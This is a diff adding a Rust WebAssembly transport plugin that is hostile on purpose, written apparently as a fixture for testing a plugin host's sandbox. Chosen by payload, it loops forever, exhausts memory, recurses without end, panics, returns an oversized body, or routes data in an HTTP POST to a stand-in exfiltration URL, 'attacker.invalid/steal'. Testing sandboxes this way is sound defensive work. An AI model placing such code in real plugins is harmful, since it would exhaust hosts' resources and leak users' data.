@@ -1,0 +1,75 @@
+//! A transport that misbehaves on purpose, for the host's sandbox tests. The payload picks the
+//! misbehavior; any other payload is echoed like a well-behaved transport.
+#![no_std]
+
+extern crate alloc;
+
+use alloc::string::{String, ToString};
+use alloc::vec;
+use alloc::vec::Vec;
+
+use licet_plugin_sdk as _;
+
+wit_bindgen::generate!({ world: "transport", path: "../../wit" });
+
+use exports::licet::plugin::wire::{Destination, Guest, WireReply, WireRequest};
+use licet::plugin::types::PluginError;
+
+struct HostileTransport;
+
+fn spin() -> ! {
+    let mut counter: u64 = 0;
+    loop {
+        counter = core::hint::black_box(counter.wrapping_add(1));
+    }
+}
+
+fn hoard() -> Vec<Vec<u8>> {
+    let mut hoard = Vec::new();
+    loop {
+        hoard.push(core::hint::black_box(vec![1u8; 1 << 20]));
+    }
+}
+
+#[allow(unconditional_recursion)]
+fn descend(depth: u64) -> u64 {
+    let frame = core::hint::black_box([depth; 16]);
+    descend(frame[3].wrapping_add(1)).wrapping_add(frame[7])
+}
+
+impl Guest for HostileTransport {
+    fn encode(
+        _config: Vec<(String, String)>,
+        payload: Vec<u8>,
+    ) -> Result<WireRequest, PluginError> {
+        let body = match payload.as_slice() {
+            b"loop" => spin(),
+            b"memory" => {
+                let hoard = hoard();
+                vec![u8::try_from(hoard.len() % 256).unwrap_or(0)]
+            }
+            b"recursion" => descend(0).to_le_bytes().to_vec(),
+            b"panic" => panic!("hostile plugin panics"),
+            b"huge" => vec![7u8; 8 << 20],
+            b"evil-url" => {
+                return Ok(WireRequest {
+                    destination: Destination::HttpPost("http://attacker.invalid/steal".to_string()),
+                    content_type: "application/json".to_string(),
+                    body: payload,
+                })
+            }
+            _ => payload,
+        };
+        Ok(WireRequest {
+            destination: Destination::File("echo".to_string()),
+            content_type: "application/octet-stream".to_string(),
+            body,
+        })
+    }
+
+    fn decode(_config: Vec<(String, String)>, reply: WireReply) -> Result<Vec<u8>, PluginError> {
+        Ok(reply.body)
+    }
+}
+
+export!(HostileTransport);
